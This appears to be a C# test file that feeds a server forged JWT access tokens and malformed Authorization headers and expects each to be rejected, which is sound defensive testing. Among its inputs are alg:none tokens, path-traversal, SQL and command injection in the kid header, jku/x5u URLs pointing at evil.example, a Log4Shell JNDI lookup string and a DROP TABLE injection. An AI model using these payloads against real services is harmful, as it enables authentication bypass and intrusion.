using System.Buffers.Text;
using System.Text;
using static Quehacer.Server.Tests.Hostile.Expected;
using static Quehacer.Server.Tests.Hostile.Ground;

namespace Quehacer.Server.Tests.Hostile;

/// <summary>Access tokens that somebody made who has no key (RFC 8725); those that were made with the key are in <see cref="AuthTests"/>.</summary>
internal static class Tokens
{
    public static IEnumerable<HostileCase> All(Ground ground)
    {
        var (header, payload, signature) = ground.Token.Split('.') is [var first, var second, var third] ? (first, second, third) : throw new InvalidOperationException("A token has three parts.");
        var (_, theirs, theirSignature) = ground.StrangersToken.Split('.') is [var a, var b, var c] ? (a, b, c) : default;
        string Encoded(string json) => Base64Url.EncodeToString(Encoding.UTF8.GetBytes(json));

        foreach (var json in new[]
        {
            """{"alg":"none"}""", """{"alg":"None"}""", """{"alg":"NONE"}""", """{"alg":"nOnE","typ":"JWT"}""", """{"alg":""}""", """{"alg":null}""", """{"alg":0}""", """{"alg":["HS256"]}""", """{"typ":"JWT"}""", "{}", "[]", "null", "x", """{"alg":"HS256","alg":"none"}""", """{"alg":"HS512","typ":"JWT"}""", """{"alg":"RS256","typ":"JWT"}""",
            """{"alg":"ES256","typ":"JWT"}""", """{"alg":"PS256"}""", """{"alg":"EdDSA"}""", """{"alg":"dir","enc":"A256GCM"}""", """{"alg":"HS256","kid":"../../../../dev/null"}""", """{"alg":"HS256","kid":"' UNION SELECT 'key' --"}""", """{"alg":"HS256","kid":"/proc/sys/kernel/randomize_va_space"}""", """{"alg":"HS256","kid":"| id"}""", """{"alg":"HS256","jku":"http://evil.example/keys"}""",
            """{"alg":"HS256","x5u":"http://evil.example/cert"}""", """{"alg":"HS256","jwk":{"kty":"oct","k":"AAAA"}}""", """{"alg":"HS256","x5c":["MIIB"]}""", """{"alg":"HS256","crit":["exp"],"exp":1}""", """{"alg":"HS256","b64":false,"crit":["b64"]}""", """{"alg":"HS256","zip":"DEF"}""", """{"alg":"HS256","cty":"JWT"}""", """{"alg":"HS256","typ":"JWE"}""",
        })
        {
            yield return Refused(json, $"{Encoded(json)}.{payload}.{signature}");
            yield return Refused($"{json}, unsigned", $"{Encoded(json)}.{payload}.");
        }
        foreach (var token in new[]
        {
            $"{header}.{payload}", $"{header}.{payload}.", $".{payload}.{signature}", $"{header}..{signature}", "..", ".", "...", $"{header}", $"{payload}.{header}.{signature}", $"{signature}.{payload}.{header}", $"{header}.{theirs}.{signature}", $"{header}.{payload}.{theirSignature}", $"{header}.{payload}.{signature}.{signature}", $".{header}.{payload}.{signature}",
            $"{header}.{payload}.{signature}=", $"{header}.{payload}.{signature}A", $"{header}.{payload}.{signature[..^1]}", $"{header}.{payload}.{signature[1..]}", $"{header}.{payload}.{signature[..21]}", $"{header}.{payload}A.{signature}", $"{header}.{payload}=.{signature}", $"{header}A.{payload}.{signature}", $"{header}.{payload}.{signature.ToUpperInvariant()}",
            $"{header}.{payload}. {signature}", $"{header}.{payload} .{signature}", $"\"{ground.Token}\"", $"{ground.Token},", $"{ground.Token}, Bearer {ground.Token}", $"{ground.Token} {ground.Token}", $"token={ground.Token}", $"{ground.Token}%00", $"{header}.{payload}.{new string('A', 43)}", $"{header}.{payload}.{new string('A', 86)}",
            ground.RefreshToken, "null", "undefined", "0", "true", "x", "{}", "[object Object]", "eyJ", "\u00c3\u00b1", "\u00f0\u009f\u0098\u0080", new string('a', 2048), new string('a', 2049), new string('.', 6000), $"{header}.{new string('A', 6000)}.{signature}", string.Join('.', Enumerable.Repeat("a", 1000)), "${jndi:ldap://evil.example/a}", "'; DROP TABLE sessions; --",
            $"{header}.{Encoded("{\"sub\":\"admin\"}")}.{signature}", $"{header}.{Encoded("{}")}.{signature}", $"{header}.{Encoded(new string('[', 2000))}.{signature}", Encoded($"{header}.{payload}.{signature}"),
        })
        {
            yield return Refused(Shown(token), token);
        }
        foreach (var (scheme, code) in new[]
        {
            ("", "UNAUTHORIZED"), (" ", "UNAUTHORIZED"), ("Bearer", "TOKEN_INVALID"), ("Bearer ", "TOKEN_INVALID"), ("Bearer  ", "TOKEN_INVALID"), ("Bearer:", "TOKEN_INVALID"), ("Basic YTpi", "TOKEN_INVALID"), ("Digest username=\"a\"", "TOKEN_INVALID"), ("Negotiate TlRM", "TOKEN_INVALID"), ("AWS4-HMAC-SHA256 Credential=a", "TOKEN_INVALID"), (ground.Token, "TOKEN_INVALID"),
            ($"Basic {ground.Token}", "TOKEN_INVALID"), ($"Token {ground.Token}", "TOKEN_INVALID"), ($"JWT {ground.Token}", "TOKEN_INVALID"), ($"Bearer{ground.Token}", "TOKEN_INVALID"), ($"Bearer={ground.Token}", "TOKEN_INVALID"), ($"Bearer:{ground.Token}", "TOKEN_INVALID"), ($"Bearer\t{ground.Token}", "TOKEN_INVALID"), ($"Bearer Bearer {ground.Token}", "TOKEN_INVALID"), ($"B\u00c3\u00a9arer {ground.Token}", "TOKEN_INVALID"),
        })
        {
            yield return new($"Authorization: {Shown(scheme)}", ground.Ask("GET", ground.Task, $"Authorization: {scheme}\r\n"), Problem(401, code));
        }
        foreach (var line in new[] { "X-Authorization", "X-Access-Token", "Cookie: token", "X-Api-Key", "Proxy-Authorization", "X-User-Id", "X-Forwarded-User", "Authentication", "X-Original-Authorization" })
        {
            var value = line.Contains(':', StringComparison.Ordinal) ? $"{line}={ground.Token}" : $"{line}: Bearer {ground.Token}";
            yield return new($"a token in {line}", ground.Ask("GET", ground.Task, $"Authorization:\r\n{value}\r\n"), Problem(401, "UNAUTHORIZED"));
        }

        HostileCase Refused(string name, string token) => new($"token {name}", ground.Ask("GET", ground.Task, $"Authorization: Bearer {token}\r\n"), Problem(401, "TOKEN_INVALID"));
    }
}
